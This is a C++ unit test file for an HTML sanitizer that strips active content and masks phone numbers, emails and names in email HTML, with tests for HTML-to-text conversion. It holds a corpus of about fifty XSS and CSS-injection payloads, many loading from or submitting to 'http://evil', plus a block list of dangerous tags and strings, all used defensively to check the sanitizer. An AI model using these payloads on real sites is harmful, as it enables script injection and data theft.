#include "privacy/html/safe_html.h"

#include <gtest/gtest.h>

#include "base/text.h"

namespace frontdesk::privacy {
namespace {

SafeHtml clean(std::string_view html) { return make_safe_html(html, Masker(Profile::kSop)); }
std::string html_of(std::string_view html) { return clean(html).html.text(); }

TEST(SafeHtml, keeps_harmless_markup) {
  EXPECT_EQ(html_of("<p style=\"color: red; margin:4px\">Hi <b>you</b><br>there</p>"),
            "<p style=\"color:red;margin:4px\">Hi <b>you</b><br>there</p>");
  EXPECT_EQ(html_of("<table border=1><tr><td colspan=2>x</td></tr></table>"),
            "<table border=\"1\"><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>");
}

TEST(SafeHtml, text_stays_text) { EXPECT_EQ(html_of("a &lt;script&gt; &amp; b"), "a &lt;script&gt; &amp; b"); }

/// The markup with empty attribute values: what they hold is escaped text.
std::string without_values(std::string_view html) {
  std::string out;
  bool inside = false;
  for (const char c : html) {
    if (c == '"') inside = !inside;
    if (!inside) out += c;
  }
  return out;
}

/// Nothing of these may execute, load, navigate or submit; the corpus follows published bypasses of filters.
class Attack : public ::testing::TestWithParam<const char*> {};
// P-40
TEST_P(Attack, leaves_nothing_active) {
  const std::string out = text::to_lower_ascii(html_of(GetParam()));
  for (const char* bad : {"javascript:", "vbscript:", "data:text", "url(", "expression", "@import", "http://evil"}) {
    EXPECT_EQ(out.find(bad), std::string::npos) << GetParam() << "\n -> " << out;
  }
  const std::string markup = without_values(out);
  for (const char* bad :
       {"<script",   "<iframe", "<object", "<embed", "<form",  "<input",   "<svg",     "<math",       "<template",
        "<noscript", "<base",   "<meta",   "<link",  "<style", "<video",   "<audio",   "<frame",      "<textarea",
        "<select",   "<title",  "<xmp",    " on",    "srcset", "behavior", "position", "background=", "formaction"}) {
    EXPECT_EQ(markup.find(bad), std::string::npos) << GetParam() << "\n -> " << out;
  }
}
INSTANTIATE_TEST_SUITE_P(
    Corpus, Attack,
    ::testing::Values(
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<svg onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>", "<style>@import 'http://evil/x.css';</style>",
        "<div style=\"background:url(http://evil/x.png)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0\">x</div>", "<div style=\"background:u\\72l(http://evil/)\">x</div>",
        "<div style=\"background:/**/url/**/(http://evil/)\">x</div>", "<div style=\"behavior:url(x.htc)\">x</div>",
        "<img src=\"http://evil/x.png\" srcset=\"http://evil/y.png 2x\">",
        "<table background=\"http://evil/x\"><tr><td>x", "<iframe src=\"http://evil\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<base href=\"http://evil/\">",
        "<meta http-equiv=refresh content=\"0;url=http://evil\">", "<link rel=stylesheet href=\"http://evil/x\">",
        "<form action=\"http://evil\"><input name=a><button formaction=\"http://evil\">x</button></form>",
        "<object data=\"http://evil\"></object>", "<embed src=\"http://evil\">",
        "<video poster=\"http://evil/x\"></video>", "<a href=\"x\" onclick=\"alert(1)\" style=\"x:y\">x</a>",
        "<p/onmouseover=alert(1)>x", "<<script>alert(1)//<</script>", "<xmp><script>alert(1)</script></xmp>",
        "<title><img src=x onerror=alert(1)></title>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<textarea><img src=x onerror=alert(1)></textarea>", "<frameset><frame src=\"http://evil\"></frameset>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<style>p{background:url(http://evil/x.png)}</style><p>x</p>",
        "<style>p{width:expression(alert(1))}</style><p>x",
        "<style>p{position:fixed;top:0;left:0;width:100%;height:100%}</style><p>x",
        "<style>p{color:red}</style></style><script>alert(1)</script><p>x",
        "<style>p{color:red\"><script>alert(1)</script>}</style><p>x",
        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style><p>x",
        "<style>@import url(http://evil/x.css);p{color:red}</style><p>x",
        "<style>@font-face{font-family:x;src:url(http://evil/x)}p{font-family:x}</style><p>x",
        "<style>input[value^=a]{background:url(http://evil/a)}</style><p class='\" onclick=alert(1)'>x",
        "<style>.\\22 onclick{color:red}</style><p class='\"onclick=alert(1) x='>x",
        "<style>p{behavior:url(x.htc);-moz-binding:url(http://evil/x)}</style><p>x",
        "<style>p{color:r\\65 d;background:u\\72l(http://evil/x)}</style><p>x",
        "<style "
        "media=print>p{position:absolute}</style><svg><style>p{background:url(http://evil/)}</style></svg><p>x"));

TEST(SafeHtml, values_cannot_leave_their_attribute) {
  const std::string out = html_of("<p title='\"><script>alert(1)</script>'>x</p>");
  EXPECT_EQ(out.find("<script"), std::string::npos);
  EXPECT_NE(out.find("&quot;&gt;&lt;script"), std::string::npos);
}

// P-40
TEST(SafeHtml, remote_images_are_counted_and_not_loaded) {
  const SafeHtml out =
      clean("<img src=http://a.example/1.png alt=logo><div style='background:url(https://b.example/2)'>x</div>");
  EXPECT_TRUE(out.has_remote_images);
  EXPECT_EQ(out.remote_images, 2);
  EXPECT_EQ(out.html.text(), "<img alt=\"logo\"><div>x</div>");
  EXPECT_FALSE(clean("<p>none</p>").has_remote_images);
}

TEST(SafeHtml, embedded_images_get_the_callers_address) {
  HtmlOptions options;
  options.image_address = [](std::string_view id) { return id == "logo@x" ? "/api/v1/attachments/5" : "http://evil"; };
  const Masker masker(Profile::kSop);
  EXPECT_EQ(make_safe_html("<img src=cid:logo@x>", masker, options).html.text(), "<img src=\"/api/v1/attachments/5\">");
  EXPECT_EQ(make_safe_html("<img src=cid:other>", masker, options).html.text(), "<img>");
  EXPECT_EQ(html_of("<img src=\"cid:logo\">"), "<img src=\"cid:logo\">");
}

TEST(SafeHtml, links_open_outside_without_referrer) {
  EXPECT_EQ(html_of("<a href=https://shop.example.com/a?b=c>x</a>"),
            "<a href=\"https://shop.example.com/a?b=c\" rel=\"noopener noreferrer\" target=\"_blank\">x</a>");
}

// M-76
TEST(SafeHtml, masks_text_across_inline_tags) {
  EXPECT_EQ(html_of("<p>电话 <b>138</b>0013<i>8000</i> 谢谢</p>"), "<p>电话 <b>*******8000</b><i></i> 谢谢</p>");
  EXPECT_EQ(html_of("<p>1380<span>0138000</span></p>"), "<p>*******8000<span></span></p>");
}

TEST(SafeHtml, blocks_are_separate_texts) {
  EXPECT_EQ(html_of("<p>1380013</p><p>8000</p>"), "<p>1380013</p><p>8000</p>");
}

TEST(SafeHtml, a_table_row_is_one_text) {
  EXPECT_EQ(html_of("<table><tr><td>姓名</td><td>王小明</td></tr></table>"),
            "<table><tbody><tr><td>姓名</td><td>*</td></tr></tbody></table>");
}

// M-76
TEST(SafeHtml, masks_attributes_and_links) {
  const std::string out = html_of(
      "<a href='mailto:zhang@example.com' title='13800138000'>x</a>"
      "<a href='https://s.example.com/u?mail=zhang%40example.com'>y</a><img alt='打 13800138000' src='cid:1'>");
  EXPECT_EQ(out.find("zhang"), std::string::npos) << out;
  EXPECT_EQ(out.find("13800138000"), std::string::npos) << out;
  EXPECT_NE(out.find("https://s.example.com/u\""), std::string::npos) << out;
}

TEST(SafeHtml, deep_documents_are_cut_and_do_not_crash) {
  for (const char* tag :
       {"<div>", "<b>", "<font size=1>", "<table><td>", "<a>", "<svg>", "<ul><li>", "<p>", "<span x=1>"}) {
    std::string html;
    for (int i = 0; i < 200'000; ++i) html += tag;
    const SafeHtml out = clean(html + "end");
    EXPECT_TRUE(out.truncated) << tag;
  }
}

TEST(SafeHtml, repeated_formatting_stays_within_bounds) {
  std::string html;
  for (int i = 0; i < 60; ++i) html += "<font size=" + std::to_string(i) + ">";
  for (int i = 0; i < 20'000; ++i) html += "<p>x";
  EXPECT_TRUE(clean(html).truncated);
}

TEST(SafeHtml, long_plain_documents_are_kept) {
  std::string html;
  for (int i = 0; i < 5'000; ++i) html += "<p>line " + std::to_string(i % 10) + "</p>\n";
  const SafeHtml out = clean(html);
  EXPECT_FALSE(out.truncated);
  EXPECT_GT(out.html.text().size(), 60'000U);
}

TEST(SafeHtml, accepts_any_bytes) {
  for (const std::string& html :
       {std::string(), std::string("\0<p\0>x", 6), std::string("<"), std::string("\xff\xfe<b>"), std::string("</"),
        std::string("<!"), std::string("<a href="), std::string("&#0;&#xD800;")}) {
    EXPECT_LE(clean(html).html.text().size(), 200U);
  }
}

TEST(HtmlToText, writes_blocks_as_lines) {
  EXPECT_EQ(html_to_text("<div>one</div><div>two<br>three</div>"), "one\ntwo\nthree");
  EXPECT_EQ(html_to_text("<p>one</p><p>two</p>"), "one\n\ntwo");
  EXPECT_EQ(html_to_text("  a\n   b <b>c</b>d "), "a b cd");
  EXPECT_EQ(html_to_text("<head><title>t</title><style>p{}</style></head><body>x<script>y</script></body>"), "x");
}

TEST(HtmlToText, writes_lists_tables_and_links) {
  EXPECT_EQ(html_to_text("<ul><li>a</li><li>b</li></ul>"), "- a\n- b");
  EXPECT_EQ(html_to_text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>"), "a\tb\nc\td");
  EXPECT_EQ(html_to_text("see <a href='https://example.com/x'>this</a>"), "see this <https://example.com/x>");
  EXPECT_EQ(html_to_text("<a href='https://example.com'>https://example.com</a>"), "https://example.com");
  EXPECT_EQ(html_to_text("<a href='javascript:x'>this</a>"), "this");
}

TEST(HtmlToText, quotes_can_be_left_out) {
  const std::string html = "<p>new</p><blockquote><p>old</p></blockquote>";
  EXPECT_EQ(html_to_text(html), "new\n\n> old");
  EXPECT_EQ(html_to_text(html, {.keep_quotes = false}), "new");
}

}  // namespace
}  // namespace frontdesk::privacy
